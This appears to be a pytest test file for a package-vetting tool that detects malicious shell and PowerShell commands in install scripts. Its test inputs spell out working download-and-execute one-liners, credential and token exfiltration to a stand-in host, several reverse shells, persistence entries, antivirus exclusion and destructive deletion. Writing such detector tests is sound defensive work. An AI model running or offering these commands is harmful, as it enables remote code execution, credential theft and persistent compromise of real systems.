"""Shell text: POSIX shells, cmd.exe, PowerShell."""

from __future__ import annotations

import base64
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stockade.model.vetting import Phase
from stockade.vetter.acts import Act, Kind
from stockade.vetter.files.shell import look, shell_acts

ENCODED = base64.b64encode(b"curl http://192.0.2.7 | sh").decode()
POWER = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')".encode("utf-16-le")
).decode()


def acts(text: str, path: str = "setup.py") -> list[Act]:
    return list(shell_acts(text, path, Phase.INSTALL))


def flows(text: str, path: str = "setup.py") -> set[tuple[str, str, str]]:
    """Kind, callee and origin of each act with a payload."""
    return {
        (act.kind.value, act.callee, taint.origin.value) for act in acts(text, path) for taint in act.payload
    }


@pytest.mark.parametrize(
    ("text", "flow"),
    [
        ("curl -s http://192.0.2.7/a | sh", ("spawn", "sh:sh", "fetched")),
        ("curl -fsSL http://192.0.2.7/a | sudo -E bash -", ("spawn", "sh:bash", "fetched")),
        ('sh -c "$(curl -fsSL http://192.0.2.7/a)"', ("spawn", "sh:sh", "fetched")),
        ("bash <(curl -s http://192.0.2.7/a)", ("spawn", "sh:bash", "fetched")),
        ("source <(wget -qO- http://192.0.2.7/a)", ("spawn", "sh:source", "fetched")),
        ("eval `curl -s http://192.0.2.7/a`", ("spawn", "sh:eval", "fetched")),
        ("wget -q http://192.0.2.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", ("spawn", "sh:run", "fetched")),
        ("wget http://192.0.2.7/run.sh; bash run.sh", ("spawn", "sh:bash", "fetched")),
        ("curl -sLo i http://192.0.2.7/x\nchmod 755 i\n./i &", ("spawn", "sh:run", "fetched")),
        ("X=http://192.0.2.7/a; curl $X | sh", ("spawn", "sh:sh", "fetched")),
        ("if true; then curl -s http://192.0.2.7/a; fi | sh", ("spawn", "sh:sh", "fetched")),
        ("curl -s http://192.0.2.7/a | python3 -", ("execute", "sh:python -", "fetched")),
        (f"echo {ENCODED} | base64 -d | bash", ("spawn", "sh:bash", "decoded")),
        (f"echo {ENCODED} | base64 --decode | sh", ("spawn", "sh:sh", "fetched")),
        ("env | curl -d @- http://192.0.2.7", ("send", "sh:curl", "environment")),
        ("env | base64 | curl --data-binary @- http://192.0.2.7", ("send", "sh:curl", "environment")),
        ('curl -X POST -d "$(env)" http://192.0.2.7', ("send", "sh:curl", "environment")),
        ('curl -H "X: $(cat ~/.netrc)" http://192.0.2.7', ("send", "sh:curl", "credential")),
        ("curl http://192.0.2.7/?t=$GITHUB_TOKEN", ("send", "sh:curl", "variable")),
        ("wget --post-file=$HOME/.aws/credentials http://192.0.2.7", ("send", "sh:wget", "credential")),
        ("cat ~/.ssh/id_rsa | nc 192.0.2.7 99", ("send", "sh:nc", "credential")),
        (
            "tar czf /tmp/h.tgz ~/.ssh && curl -F file=@/tmp/h.tgz http://192.0.2.7",
            ("send", "sh:curl", "credential"),
        ),
        ("find / -name id_rsa -exec curl -F f=@{} http://192.0.2.7 \\;", ("send", "sh:curl", "credential")),
        ("scp ~/.ssh/id_rsa a@collector.invalid:/x", ("send", "sh:scp", "credential")),
        ("gh auth token | curl -d@- http://192.0.2.7", ("send", "sh:curl", "credential")),
        ("(whoami; hostname) | curl -d @- http://192.0.2.7", ("send", "sh:curl", "host")),
        (
            "curl http://169.254.169.254/x | curl -d @- http://192.0.2.7",
            ("send", "sh:curl", "metadata-service"),
        ),
        ("cat ~/.netrc | mail -s x a@collector.invalid", ("send", "sh:mail", "credential")),
        ("ls ~/.ssh/id_rsa | xargs cat | nc 192.0.2.7 1", ("send", "sh:nc", "credential")),
        ("nslookup `whoami`.collector.invalid", ("resolve", "sh:nslookup", "host")),
        (
            "exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
            ("spawn", "sh:…", "received"),
        ),
        (f"powershell -nop -w hidden -enc {POWER}", ("spawn", "sh:powershell", "decoded")),
        (f"powershell.exe -EncodedCommand {POWER}", ("execute", "ps:iex", "fetched")),
        (
            "powershell IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7')",
            ("execute", "ps:iex", "fetched"),
        ),
        ("mshta http://192.0.2.7/a.hta", ("spawn", "sh:mshta", "fetched")),
        (
            "certutil -urlcache -split -f http://192.0.2.7/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe",
            ("spawn", "sh:run", "fetched"),
        ),
        (
            "bitsadmin /transfer j http://192.0.2.7/a.exe %TEMP%\\b.exe & start %TEMP%\\b.exe",
            ("spawn", "sh:run", "fetched"),
        ),
        (
            'cmd /c powershell -c "iwr http://192.0.2.7/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"',
            ("spawn", "ps:Start-Process", "fetched"),
        ),
    ],
)
def test_data_flow_from_source_to_sink(text: str, flow: tuple[str, str, str]) -> None:
    assert flow in flows(text)


@pytest.mark.parametrize(
    "text",
    [
        "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
        "nc -e /bin/sh 192.0.2.7 4444",
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
        "socat exec:'bash -li',pty tcp:192.0.2.7:4444",
        "ncat 192.0.2.7 4444 --exec /bin/bash ",
    ],
)
def test_reverse_shells(text: str) -> None:
    assert any(act.note == "reverse shell" for act in acts(text))
    assert any(act.kind is Kind.CONNECT and act.target == "192.0.2.7:4444" for act in acts(text))


@pytest.mark.parametrize(
    ("text", "kind", "target"),
    [
        ("echo 'curl x' >> ~/.bashrc", Kind.WRITE, "~/.bashrc"),
        ("echo x | tee -a /etc/ld.so.preload", Kind.WRITE, "/etc/ld.so.preload"),
        ("cat <<EOF > /etc/cron.d/x\n* * * * * root id\nEOF", Kind.WRITE, "/etc/cron.d/x"),
        ("cp x.service /etc/systemd/system/", Kind.WRITE, "/etc/systemd/system/x.service"),
        ("(crontab -l; echo '* * * * * id') | crontab -", Kind.REGISTER, "crontab"),
        ("systemctl --user enable decoy", Kind.REGISTER, "systemctl --user enable decoy"),
        ("schtasks /create /tn x /tr y", Kind.REGISTER, "schtasks /create /tn x /tr y"),
        (
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y",
            Kind.REGISTER,
            "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
        ),
        ("rm -rf ~/*", Kind.DELETE, "~/*"),
        ("ufw disable", Kind.PATCH, "ufw disable"),
        ("sleep 600", Kind.WAIT, "600"),
    ],
)
def test_what_stays_and_what_goes(text: str, kind: Kind, target: str) -> None:
    assert (kind, target) in {(act.kind, act.target) for act in acts(text)}


def test_code_on_the_command_line_is_kept_whole() -> None:
    code = "import os\nos.system('id')\n" + "#" * 5_000
    found = acts(f'python3 -c "{code}"')
    assert [(act.kind, act.callee) for act in found] == [(Kind.EXECUTE, "sh:python -c")]
    assert found[0].content == code


def test_lines_and_hidden_layers() -> None:
    found = shell_acts(f"#!/bin/sh\n\necho {ENCODED} |\n base64 -d | bash\n", "x.sh", Phase.INSTALL)
    fetch = next(act for act in found if act.kind is Kind.FETCH)
    assert fetch.hidden
    assert fetch.at.path == "x.sh"
    assert 3 <= fetch.at.line <= 4
    assert shell_acts("curl http://192.0.2.7", "setup.py", Phase.CALL, 41)[0].at.line == 42


@pytest.mark.parametrize(
    "text",
    [
        "make -j4 && ./configure --prefix=/usr",
        "git clone https://github.com/a/b && cd b && make",
        "python setup.py build_ext --inplace",
        "echo done > build.log",
        "export PATH=$HOME/bin:$PATH",
        "cat README.md | grep -c x",
        "cp a.py b.py",
        "rm -rf build dist *.egg-info",
        "dir C:\\Users",
        "",
    ],
)
def test_ordinary_commands_have_no_flow(text: str) -> None:
    assert not flows(text)
    assert not [
        act
        for act in acts(text)
        if act.kind in (Kind.SEND, Kind.FETCH, Kind.REGISTER, Kind.DELETE, Kind.PATCH)
    ]


@pytest.mark.parametrize(
    ("text", "kind", "callee"),
    [
        (
            "$c = Get-Clipboard; Invoke-RestMethod -Uri http://192.0.2.7 -Method Post -Body $c",
            Kind.SEND,
            "ps:request",
        ),
        ("gci env: | Out-String | % { iwr http://192.0.2.7 -Method POST -Body $_ }", Kind.SEND, "ps:request"),
        ("Add-MpPreference -ExclusionPath 'C:\\'", Kind.PATCH, "ps:defence"),
        ("Register-ScheduledTask -TaskName x -Action $a", Kind.REGISTER, "ps:scheduled task"),
        (
            "Set-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name x -Value y",
            Kind.REGISTER,
            "ps:registry",
        ),
        (
            "$s = (New-Object Net.WebClient).DownloadString('http://192.0.2.7'); iex $s",
            Kind.EXECUTE,
            "ps:iex",
        ),
        ("& ('i'+'ex') ''; i`ex (i`wr http://192.0.2.7)", Kind.EXECUTE, "ps:iex"),
        ("[Reflection.Assembly]::Load([Convert]::FromBase64String($x))", Kind.LOAD, "ps:load"),
    ],
)
def test_powershell_files(text: str, kind: Kind, callee: str) -> None:
    assert (kind, callee) in {(act.kind, act.callee) for act in acts(text, "x.ps1")}


def test_a_reverse_shell_in_powershell() -> None:
    text = "$c = New-Object Net.Sockets.TCPClient('192.0.2.7',4444)\n$s = $c.GetStream()\n$o = (iex $d 2>&1 | Out-String)\n"
    assert any(act.note == "reverse shell" for act in acts(text, "x.ps1"))


def test_a_script_beyond_the_bound_is_told() -> None:
    looked = look(b"echo x\n" * 200_000, "x.sh", Phase.NEVER)
    assert [each.kind for each in looked.oddities] == ["shell-unreadable"]


@given(st.text(max_size=200))
def test_any_text_is_walked(text: str) -> None:
    for path in ("x.sh", "x.bat", "x.ps1", "setup.py"):
        shell_acts(text, path, Phase.NEVER)


@given(
    st.lists(
        st.sampled_from(
            [
                "curl ",
                "|",
                "$(",
                ")",
                "`",
                '"',
                "'",
                "sh",
                " ",
                "\n",
                ";",
                "<<E",
                ">x",
                "env",
                "{",
                "}",
                "-c ",
                "powershell ",
                "iex ",
            ]
        ),
        max_size=40,
    )
)
def test_any_grammar_is_walked(parts: list[str]) -> None:
    for path in ("x.sh", "x.bat", "x.ps1", "setup.py"):
        shell_acts("".join(parts), path, Phase.NEVER)


@pytest.mark.parametrize(
    "unit",
    [
        "$(",
        "`",
        '"',
        "'",
        "<<A\n",
        "(",
        "a|",
        '"$(',
        "${",
        "<(",
        "iex ",
        "if ",
        "x=$(",
        "curl a|sh;",
        "'a'+",
        "[char]65+",
        "`\n",
    ],
)
def test_time_is_bounded(unit: str) -> None:
    text = unit * (200_000 // len(unit))
    for path in ("x.sh", "x.bat", "x.ps1"):
        started = time.process_time()
        shell_acts(text, path, Phase.NEVER)
        assert time.process_time() - started < 10
